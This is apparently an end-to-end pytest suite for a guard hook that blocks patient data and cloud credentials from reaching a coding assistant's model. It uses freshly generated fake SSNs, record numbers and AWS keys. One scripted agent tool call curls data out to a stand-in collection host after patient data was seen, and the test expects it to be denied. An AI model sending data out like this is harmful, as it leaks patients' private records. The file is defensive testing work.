"""Content detection in front of the real client: PHI and credentials in files whose names give
nothing away, in prompts and in @-mentions never reach the model; ordinary source still does.

Canaries here are synthetic but structurally valid (an SSN the SSA could issue, an AWS key id),
generated fresh per run, so finding one in a request body means the value leaked.
"""

from __future__ import annotations

import gzip
import random
import secrets
import string
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from harness import Project, guard_reason, run_claude, strip_line_numbers

pytestmark = pytest.mark.e2e

FIRST = "toolu_e2e_0001"
BLOCKED_PROMPT_PREFIX = "UserPromptSubmit operation blocked by hook"


def _ssn(rng: random.Random) -> str:
    area = rng.choice([n for n in range(100, 666) if n != 666])
    return f"{area:03d}-{rng.randint(10, 99):02d}-{rng.randint(1000, 9999):04d}"


@dataclass(frozen=True)
class PhiCanaries:
    ssns: tuple[str, ...]
    mrns: tuple[str, ...]
    aws_key_id: str
    aws_secret: str

    @property
    def all(self) -> list[str]:
        return [*self.ssns, *self.mrns, self.aws_key_id, self.aws_secret]


@pytest.fixture
def phi(project: Project, canary_registry: set[str]) -> PhiCanaries:
    rng = random.Random(secrets.randbits(64))
    alphabet = string.ascii_uppercase + "234567"
    made = PhiCanaries(
        ssns=tuple(_ssn(rng) for _ in range(3)),
        mrns=tuple(f"{rng.randint(10**7, 10**8 - 1)}" for _ in range(3)),
        aws_key_id="AKIA" + "".join(rng.choice(alphabet) for _ in range(16)),
        aws_secret="".join(
            rng.choice(string.ascii_letters + string.digits + "/+") for _ in range(40)
        ),
    )
    root = project.root
    rows = [
        ("Maria", "Gonzalez", "1957-03-14", made.mrns[0], made.ssns[0], "E11.9"),
        ("Tomas", "Becker", "1962-11-02", made.mrns[1], made.ssns[1], "I10"),
        ("Ada", "Okafor", "1931-07-29", made.mrns[2], made.ssns[2], "J44.1"),
    ]
    csv = "first_name,last_name,dob,mrn,ssn,dx_code\n" + "".join(",".join(r) + "\n" for r in rows)
    (root / "exports").mkdir()
    (root / "exports" / "q3.csv").write_text(csv)
    (root / "notes" / "discharge.txt").write_text(
        "DISCHARGE SUMMARY\n"
        f"Patient: Maria Gonzalez   MRN: {made.mrns[0]}   DOB: 03/14/1957\n"
        "Admitted with hyperglycemia; insulin titrated. Follow up with endocrinology in 2 weeks.\n"
        f"SSN on file: {made.ssns[0]}\n"
    )
    (root / "src" / "settings.py").write_text(
        "REGION = 'eu-west-1'\n"
        f"AWS_ACCESS_KEY_ID = '{made.aws_key_id}'\n"
        f"AWS_SECRET_ACCESS_KEY = '{made.aws_secret}'\n"
    )
    canary_registry.update(made.all)
    return made


def read(path: Path) -> dict[str, Any]:
    return {"name": "Read", "input": {"file_path": str(path)}}


def assert_never_sent(run: Any, values: list[str]) -> None:
    sent = run.all_text_sent()
    leaked = [v for v in values if v in sent]
    assert not leaked, f"reached the model: {leaked}\n{run.describe()}"


@pytest.mark.parametrize("rel", ["exports/q3.csv", "notes/discharge.txt", "src/settings.py"])
def test_sensitive_content_is_not_read(
    guarded_home: Path, project: Project, phi: PhiCanaries, rel: str
) -> None:
    run = run_claude(guarded_home, project.root, "read it", [[read(project.root / rel)]])
    result = run.tool_result(FIRST)
    assert result.is_error, run.describe()
    reason = guard_reason(result)
    assert "claude-guard" in reason and "contains" in reason, reason
    assert_never_sent(run, phi.all)


def test_source_files_still_read_fine(guarded_home: Path, project: Project, phi: PhiCanaries):
    run = run_claude(guarded_home, project.root, "read it", [[read(project.root / "src/app.py")]])
    result = run.tool_result(FIRST)
    assert not result.is_error, run.describe()
    assert strip_line_numbers(result.text).strip() == project.app_source.strip()


def test_writing_a_token_into_the_repo_is_denied(guarded_home: Path, project: Project, phi):
    target = project.root / "src" / "deploy.py"
    write = {
        "name": "Write",
        "input": {"file_path": str(target), "content": f"KEY = '{phi.aws_key_id}'\n"},
    }
    run = run_claude(guarded_home, project.root, "write it", [[write]])
    assert run.tool_result(FIRST).is_error, run.describe()
    assert not target.exists()


def test_prompt_with_phi_is_blocked(guarded_home: Path, project: Project, phi: PhiCanaries):
    prompt = f"Patient Maria Gonzalez, MRN {phi.mrns[0]}, SSN {phi.ssns[0]} - draft a letter"
    run = run_claude(guarded_home, project.root, prompt, [])
    assert run.message_requests() == [], run.describe()
    assert run.result is not None and run.result["result"].startswith(BLOCKED_PROMPT_PREFIX)
    assert "US_SSN" in run.result["result"]
    # The client echoes the user's own prompt back to the user; what matters is the model.
    assert_never_sent(run, phi.all)


def test_mention_of_phi_file_is_blocked(guarded_home: Path, project: Project, phi: PhiCanaries):
    run = run_claude(guarded_home, project.root, "summarise @exports/q3.csv please", [])
    assert run.message_requests() == [], run.describe()
    assert run.result is not None and run.result["result"].startswith(BLOCKED_PROMPT_PREFIX)
    assert_never_sent(run, phi.all)


def test_control_without_guard_csv_and_mention_leak(
    plain_home: Path, project: Project, phi: PhiCanaries
) -> None:
    run = run_claude(plain_home, project.root, "read it", [[read(project.root / "exports/q3.csv")]])
    assert phi.ssns[0] in run.all_text_sent(), run.describe()
    mention = run_claude(plain_home, project.root, "summarise @exports/q3.csv please", [])
    assert phi.ssns[1] in mention.all_text_sent(), mention.describe()


def bash(command: str) -> dict[str, Any]:
    return {"name": "Bash", "input": {"command": command, "description": "e2e"}}


def test_second_line_redacts_shell_output(
    guarded_home: Path, project: Project, phi: PhiCanaries
) -> None:
    """A compressed export cannot be content-scanned before the command runs (it is binary),
    so what `zcat` prints must be redacted after it ran."""
    export = project.root / "exports" / "q3.csv"
    (project.root / "exports" / "q3.csv.gz").write_bytes(gzip.compress(export.read_bytes()))
    export.unlink()
    run = run_claude(guarded_home, project.root, "show it", [[bash("zcat exports/q3.csv.gz")]])
    result = run.tool_result(FIRST)
    assert not result.is_error, run.describe()
    assert "<US_SSN_1>" in result.text and "dx_code" in result.text, result.text
    assert_never_sent(run, phi.all)


def test_benign_shell_output_arrives_intact(guarded_home: Path, project: Project) -> None:
    run = run_claude(guarded_home, project.root, "run it", [[bash("cat src/app.py")]])
    assert run.tool_result(FIRST).text.strip() == project.app_source.strip(), run.describe()


def test_egress_after_phi_was_seen_is_denied(
    guarded_home: Path, project: Project, phi: PhiCanaries
) -> None:
    """Session memory: once PHI showed up (redacted) in this session, sending data out is off."""
    export = project.root / "exports" / "q3.csv"
    (project.root / "exports" / "q3.csv.gz").write_bytes(gzip.compress(export.read_bytes()))
    script = [
        [bash("zcat exports/q3.csv.gz")],
        [bash("curl -s -X POST https://example.com/collect -d 'summary=ok'")],
    ]
    run = run_claude(guarded_home, project.root, "go", script)
    assert "<US_SSN_1>" in run.tool_result(FIRST).text, run.describe()
    egress = run.tool_result("toolu_e2e_0002")
    assert egress.is_error and "phi was seen in this session" in egress.text, run.describe()
    assert_never_sent(run, phi.all)
